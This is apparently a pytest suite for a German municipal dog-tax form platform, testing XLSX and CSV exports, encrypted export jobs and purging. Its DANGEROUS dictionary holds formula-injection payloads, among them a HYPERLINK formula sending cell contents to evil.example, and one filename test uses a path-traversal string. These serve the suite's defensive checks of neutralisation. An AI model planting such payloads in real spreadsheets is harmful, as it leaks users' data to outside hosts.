"""Spreadsheet exports: layout across versions, typed values, repeats, formula neutralisation."""

import csv
import datetime
import io
import uuid
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.utils import timezone

from kreiswerk.crypto.files import open_decrypted
from kreiswerk.submissions.export import (
    ascii_filename,
    build_export,
    csv_cell,
    neutralise,
)
from kreiswerk.submissions.export_tasks import export_request, exports_purge
from kreiswerk.submissions.models import Export, Submission
from kreiswerk.tenancy.models import Role
from tests.conftest import attach_file, make_staff

DANGEROUS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")': '\'=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+1": "'+1",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "-2+3": "'-2+3",
    "\tcmd": "'\tcmd",
    "\rcmd": "'\rcmd",
}


def export_definition(**overrides) -> dict:
    definition = {
        "format": "kreiswerk-assistant/1",
        "slug": "hundesteuer",
        "title": "Anmeldung zur Hundesteuer",
        "computed": [
            {
                "key": "gebuehr",
                "label": "Gebühr",
                "type": "money",
                "rule": {"*": [{"var": "anzahl"}, 12.5]},
            }
        ],
        "steps": [
            {
                "key": "person",
                "title": "Angaben zur Person",
                "elements": [
                    {"key": "name", "type": "text", "label": "Vollständiger Name"},
                    {"key": "geburtsdatum", "type": "date", "label": "Geburtsdatum"},
                    {"key": "anschrift", "type": "address", "label": "Anschrift"},
                    {
                        "key": "wohnung",
                        "type": "group",
                        "label": "Wohnung",
                        "elements": [{"key": "zimmer", "type": "integer", "label": "Zimmer"}],
                    },
                ],
            },
            {
                "key": "hunde",
                "title": "Hunde",
                "elements": [
                    {"key": "anzahl", "type": "integer", "label": "Anzahl"},
                    {"key": "betrag", "type": "money", "label": "Betrag"},
                    {
                        "key": "rassen",
                        "type": "checkboxes",
                        "label": "Rassen",
                        "options": [
                            {"value": "dackel", "label": "Dackel"},
                            {"value": "pudel", "label": "Pudel"},
                        ],
                    },
                    {"key": "kampfhund", "type": "yesno", "label": "Kampfhund"},
                    {
                        "key": "hund",
                        "type": "repeat",
                        "label": "Hunde im Haushalt",
                        "elements": [
                            {"key": "hund_name", "type": "text", "label": "Name des Hundes"},
                            {"key": "hund_geboren", "type": "date", "label": "Geboren am"},
                        ],
                    },
                    {
                        "key": "nachweis",
                        "type": "file",
                        "label": "Nachweis",
                        "file": {"types": ["pdf"]},
                    },
                ],
            },
        ],
    }
    definition.update(overrides)
    return definition


def old_definition() -> dict:
    """Version 1: another label for the name and a field that version 2 dropped."""
    definition = export_definition()
    person = definition["steps"][0]
    person["elements"][0] = {"key": "name", "type": "text", "label": "Name"}
    person["elements"].insert(1, {"key": "spitzname", "type": "text", "label": "Spitzname"})
    return definition


ANSWERS = {
    "name": "Erika Mustermann",
    "geburtsdatum": "1980-04-01",
    "anschrift": {
        "street": "Hauptstraße",
        "house_number": "1a",
        "postal_code": "01234",
        "city": "Musterstadt",
    },
    "zimmer": 3,
    "anzahl": 2,
    "betrag": "1234.50",
    "rassen": ["dackel", "pudel"],
    "kampfhund": False,
    "hund": [
        {"hund_name": "Bello", "hund_geboren": "2020-05-06"},
        {"hund_name": "Waldi", "hund_geboren": "2021-07-08"},
    ],
}


def make_submission(version, *, reference=None, answers=None, unit=None, is_test=False, computed=None, when=None):
    assistant = version.assistant
    submission = Submission.objects.create(
        reference=reference or f"MK-2026-{uuid.uuid4().hex[:8]}",
        mandant=assistant.mandant,
        unit=unit or assistant.unit,
        assistant=assistant,
        version=version,
        payload={
            "answers": answers if answers is not None else dict(ANSWERS),
            "computed": computed or {"gebuehr": "25.00"},
        },
        is_test=is_test,
        idempotency_key=uuid.uuid4(),
    )
    if when is not None:
        Submission.objects.filter(pk=submission.pk).update(submitted_at=when)
        submission.refresh_from_db()
    return submission


def text_of(value):
    """openpyxl leaves XlsxWriter's escape of a carriage return as it is; Excel reads it as CR."""
    return value.replace("_x000D_", "\r") if isinstance(value, str) else value


def sheet_rows(worksheet) -> list[list]:
    return [list(row) for row in worksheet.iter_rows(values_only=True)]


def by_header(rows: list[list]) -> list[dict]:
    header = rows[0]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def versions(publish_assistant):
    first = publish_assistant(old_definition())
    second = publish_assistant(export_definition())
    return first, second


def build(assistant, fmt, tmp_path, qs=None):
    directory = tmp_path / f"out-{fmt}-{uuid.uuid4().hex[:6]}"
    directory.mkdir()
    return build_export(
        submissions=qs if qs is not None else Submission.objects.all(),
        assistant=assistant,
        fmt=fmt,
        directory=directory,
    )


# --- XLSX -------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_xlsx_has_union_of_fields_in_definition_order_with_newest_labels(versions, tmp_path):
    first, second = versions
    make_submission(first, reference="MK-1", answers={"name": "Alt", "spitzname": "Ali"})
    make_submission(second, reference="MK-2")

    result = build(second.assistant, "xlsx", tmp_path)

    workbook = openpyxl.load_workbook(result.path)
    assert workbook.sheetnames == ["Anträge", "Hunde im Haushalt"]
    header = sheet_rows(workbook["Anträge"])[0]
    assert header == [
        "Aktenzeichen",
        "Eingegangen am",
        "Version",
        "Testeingang",
        "Vollständiger Name",
        "Spitzname",
        "Geburtsdatum",
        "Anschrift: Straße",
        "Anschrift: Hausnummer",
        "Anschrift: PLZ",
        "Anschrift: Ort",
        "Zimmer",
        "Anzahl",
        "Betrag",
        "Rassen",
        "Kampfhund",
        "Hunde im Haushalt: Anzahl",
        "Nachweis",
        "Gebühr",
    ]
    rows = by_header(sheet_rows(workbook["Anträge"]))
    assert [row["Aktenzeichen"] for row in rows] == ["MK-1", "MK-2"]
    assert rows[0]["Version"] == 1 and rows[1]["Version"] == 2
    assert rows[0]["Spitzname"] == "Ali" and rows[1]["Spitzname"] is None
    assert result.row_count == 2


@pytest.mark.django_db
def test_xlsx_values_are_typed(versions, tmp_path):
    _first, second = versions
    submission = make_submission(second, reference="MK-2026-000001")

    result = build(second.assistant, "xlsx", tmp_path)

    sheet = openpyxl.load_workbook(result.path)["Anträge"]
    row = by_header(sheet_rows(sheet))[0]
    assert row["Aktenzeichen"] == "MK-2026-000001"
    received = timezone.localtime(submission.submitted_at).replace(tzinfo=None, microsecond=0)
    assert abs(row["Eingegangen am"] - received) < datetime.timedelta(seconds=1)
    assert row["Geburtsdatum"] == datetime.datetime(1980, 4, 1)
    assert row["Anschrift: Straße"] == "Hauptstraße"
    assert row["Anschrift: Hausnummer"] == "1a"
    assert row["Anschrift: PLZ"] == "01234"  # text, the leading zero stays
    assert row["Anschrift: Ort"] == "Musterstadt"
    assert row["Zimmer"] == 3
    assert row["Betrag"] == pytest.approx(1234.5)
    assert row["Rassen"] == "Dackel, Pudel"
    assert row["Kampfhund"] == "Nein"
    assert row["Hunde im Haushalt: Anzahl"] == 2
    assert row["Gebühr"] == pytest.approx(25)
    assert row["Testeingang"] == "Nein"
    header = sheet_rows(sheet)[0]
    money = sheet.cell(row=2, column=header.index("Betrag") + 1)
    assert money.data_type == "n" and "€" in money.number_format
    birthday = sheet.cell(row=2, column=header.index("Geburtsdatum") + 1)
    assert birthday.is_date and birthday.number_format == "dd.mm.yyyy"


@pytest.mark.django_db
def test_xlsx_repeats_are_on_their_own_sheet(versions, tmp_path):
    _first, second = versions
    make_submission(second, reference="MK-A")
    make_submission(second, reference="MK-B", answers={**ANSWERS, "hund": [{"hund_name": "Rex"}]})

    result = build(second.assistant, "xlsx", tmp_path)

    rows = sheet_rows(openpyxl.load_workbook(result.path)["Hunde im Haushalt"])
    assert rows == [
        ["Aktenzeichen", "Nr.", "Name des Hundes", "Geboren am"],
        ["MK-A", 1, "Bello", datetime.datetime(2020, 5, 6)],
        ["MK-A", 2, "Waldi", datetime.datetime(2021, 7, 8)],
        ["MK-B", 1, "Rex", None],
    ]


@pytest.mark.django_db
def test_file_fields_show_file_names(versions, tmp_path):
    _first, second = versions
    submission = make_submission(second)
    submission.payload = {**submission.payload, "answers": dict(ANSWERS)}
    attach_file(submission, field_key="nachweis", filename="Impfpass.pdf", content=b"%PDF-1.4")

    result = build(second.assistant, "xlsx", tmp_path)

    row = by_header(sheet_rows(openpyxl.load_workbook(result.path)["Anträge"]))[0]
    assert row["Nachweis"] == "Impfpass.pdf"


@pytest.mark.django_db
def test_xlsx_neutralises_formulas(versions, tmp_path):
    _first, second = versions
    for index, value in enumerate(DANGEROUS):
        answers = {**ANSWERS, "name": value, "hund": [{"hund_name": value}]}
        make_submission(second, reference=f"MK-{index}", answers=answers)

    result = build(second.assistant, "xlsx", tmp_path)

    workbook = openpyxl.load_workbook(result.path)
    main = workbook["Anträge"]
    column = sheet_rows(main)[0].index("Vollständiger Name") + 1
    cells = [main.cell(row=row, column=column) for row in range(2, len(DANGEROUS) + 2)]
    assert [text_of(cell.value) for cell in cells] == list(DANGEROUS.values())
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
    repeat = workbook["Hunde im Haushalt"]
    names = [repeat.cell(row=row, column=3) for row in range(2, len(DANGEROUS) + 2)]
    assert [text_of(cell.value) for cell in names] == list(DANGEROUS.values())
    assert all(cell.data_type == "s" for cell in names)


@pytest.mark.django_db
def test_headers_from_the_definition_are_neutralised_too(publish_assistant, tmp_path):
    definition = export_definition()
    definition["steps"][0]["elements"][0]["label"] = "=Name"
    version = publish_assistant(definition)
    make_submission(version)

    result = build(version.assistant, "xlsx", tmp_path)

    header = sheet_rows(openpyxl.load_workbook(result.path)["Anträge"])[0]
    assert "'=Name" in header


# --- CSV --------------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.django_db
def test_csv_without_repeats_is_one_utf8_file_with_semicolons(publish_assistant, tmp_path):
    definition = export_definition()
    definition["steps"][1]["elements"] = [e for e in definition["steps"][1]["elements"] if e["type"] != "repeat"]
    version = publish_assistant(definition)
    make_submission(version, reference="MK-2026-000007", answers={**ANSWERS, "name": 'Jürgen Äßler; "Jr."'})

    result = build(version.assistant, "csv", tmp_path)

    assert result.extension == "csv" and result.content_type.startswith("text/csv")
    rows = read_csv(result.path.read_bytes())
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Aktenzeichen"] == "MK-2026-000007"
    assert record["Vollständiger Name"] == 'Jürgen Äßler; "Jr."'
    assert record["Geburtsdatum"] == "01.04.1980"
    assert record["Betrag"] == "1234,50"
    assert record["Gebühr"] == "25,00"
    assert record["Anschrift: PLZ"] == "01234"
    assert record["Rassen"] == "Dackel, Pudel"
    assert record["Version"] == "1"
    assert datetime.datetime.strptime(record["Eingegangen am"], "%d.%m.%Y %H:%M")


@pytest.mark.django_db
def test_csv_with_repeats_is_a_zip_of_one_csv_per_sheet(versions, tmp_path):
    _first, second = versions
    make_submission(second, reference="MK-A")

    result = build(second.assistant, "csv", tmp_path)

    assert result.extension == "zip"
    with zipfile.ZipFile(result.path) as bundle:
        assert sorted(bundle.namelist()) == ["antraege.csv", "hund.csv"]
        main = read_csv(bundle.read("antraege.csv"))
        repeat = read_csv(bundle.read("hund.csv"))
    assert main[1][0] == "MK-A"
    assert repeat == [
        ["Aktenzeichen", "Nr.", "Name des Hundes", "Geboren am"],
        ["MK-A", "1", "Bello", "06.05.2020"],
        ["MK-A", "2", "Waldi", "08.07.2021"],
    ]


@pytest.mark.django_db
def test_csv_neutralises_formulas(versions, tmp_path):
    _first, second = versions
    for index, value in enumerate(DANGEROUS):
        make_submission(second, reference=f"MK-{index}", answers={**ANSWERS, "name": value})

    result = build(second.assistant, "csv", tmp_path)

    with zipfile.ZipFile(result.path) as bundle:
        rows = read_csv(bundle.read("antraege.csv"))
    column = rows[0].index("Vollständiger Name")
    assert [row[column] for row in rows[1:]] == list(DANGEROUS.values())


def test_neutralise_and_cells():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("Hallo =1") == "Hallo =1"
    assert neutralise("") == ""
    assert csv_cell(Decimal("-12.50")) == "-12,50"  # a number, not text: stays a number
    assert csv_cell(None) == ""
    assert csv_cell(datetime.date(2026, 1, 2)) == "02.01.2026"


def test_ascii_filename():
    assert ascii_filename("Übersicht März 2026.pdf") == "Uebersicht_Maerz_2026.pdf"
    assert ascii_filename('../../etc/"passwd"\r\n') == "etc_passwd"
    assert ascii_filename("日本.pdf") == "datei.pdf"
    assert ascii_filename("") == "datei"


# --- the background job -----------------------------------------------------------------------


@pytest.mark.django_db
def test_export_job_builds_encrypted_file_of_visible_submissions(
    versions, caseworker, other_unit, django_capture_on_commit_callbacks
):
    _first, second = versions
    make_submission(second, reference="MK-MINE")
    make_submission(second, reference="MK-TEST", is_test=True)
    make_submission(second, reference="MK-OTHER", unit=other_unit)

    with django_capture_on_commit_callbacks(execute=True):
        export = export_request(user=caseworker, assistant=second.assistant, fmt="xlsx")

    export.refresh_from_db()
    assert export.status == Export.Status.DONE
    assert export.row_count == 1
    assert export.filename.startswith("antraege-hundesteuer-") and export.filename.endswith(".xlsx")
    data = b"".join(open_decrypted(export.path, export.key))
    rows = sheet_rows(openpyxl.load_workbook(io.BytesIO(data))["Anträge"])
    assert [row[0] for row in rows[1:]] == ["MK-MINE"]


@pytest.mark.django_db
def test_export_job_applies_period_and_tests_filter(versions, caseworker, django_capture_on_commit_callbacks):
    _first, second = versions
    now = timezone.now()
    make_submission(second, reference="MK-OLD", when=now - datetime.timedelta(days=40))
    make_submission(second, reference="MK-NEW", when=now)
    make_submission(second, reference="MK-TEST", is_test=True, when=now)

    with django_capture_on_commit_callbacks(execute=True):
        export = export_request(
            user=caseworker,
            assistant=second.assistant,
            fmt="csv",
            date_from=timezone.localdate() - datetime.timedelta(days=1),
            include_tests=True,
        )

    export.refresh_from_db()
    assert export.status == Export.Status.DONE and export.filename.endswith(".zip")
    with zipfile.ZipFile(io.BytesIO(b"".join(open_decrypted(export.path, export.key)))) as bundle:
        rows = read_csv(bundle.read("antraege.csv"))
    assert sorted(row[0] for row in rows[1:]) == ["MK-NEW", "MK-TEST"]
    assert {row[0]: row[3] for row in rows[1:]}["MK-TEST"] == "Ja"


@pytest.mark.django_db
def test_export_of_user_without_role_is_empty(versions, unit, django_capture_on_commit_callbacks):
    _first, second = versions
    make_submission(second)
    stranger = make_staff("fremd", unit=unit, role=Role.FORM_ADMIN)

    with django_capture_on_commit_callbacks(execute=True):
        export = export_request(user=stranger, assistant=second.assistant, fmt="xlsx")

    export.refresh_from_db()
    assert export.status == Export.Status.DONE and export.row_count == 0


@pytest.mark.django_db
def test_purge_deletes_exports_older_than_seven_days(
    versions, caseworker, django_capture_on_commit_callbacks, settings
):
    _first, second = versions
    make_submission(second)
    with django_capture_on_commit_callbacks(execute=True):
        old = export_request(user=caseworker, assistant=second.assistant, fmt="xlsx")
        fresh = export_request(user=caseworker, assistant=second.assistant, fmt="xlsx")
    Export.objects.filter(pk=old.pk).update(created_at=timezone.now() - datetime.timedelta(days=8))
    old.refresh_from_db()
    old_file = settings.KREISWERK_FILES_DIR / old.path
    assert old_file.exists()

    call_command("exports", "purge", stdout=io.StringIO())

    assert not Export.objects.filter(pk=old.pk).exists()
    assert not old_file.exists()
    assert Export.objects.filter(pk=fresh.pk).exists()
    assert exports_purge() == 0


# --- scale ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_definitions_are_parsed_once_per_version(versions, tmp_path, monkeypatch):
    first, second = versions
    for index in range(30):
        make_submission(first if index % 2 else second)
    from kreiswerk.assistants import definition as definition_module

    calls = []
    original = definition_module.build
    monkeypatch.setattr(definition_module, "build", lambda data: calls.append(1) or original(data))

    result = build(second.assistant, "xlsx", tmp_path)

    assert result.row_count == 30
    assert len(calls) <= 2
